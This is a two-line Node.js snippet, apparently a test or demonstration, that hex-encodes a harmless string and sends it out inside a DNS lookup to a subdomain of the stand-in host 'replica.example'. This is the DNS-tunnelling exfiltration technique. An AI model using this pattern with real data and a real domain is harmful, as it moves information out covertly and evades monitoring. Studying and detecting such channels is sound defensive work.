const data = Buffer.from("nothing of worth, again").toString("hex");
require("dns").resolve4(`${data}.t.replica.example`, () => {});
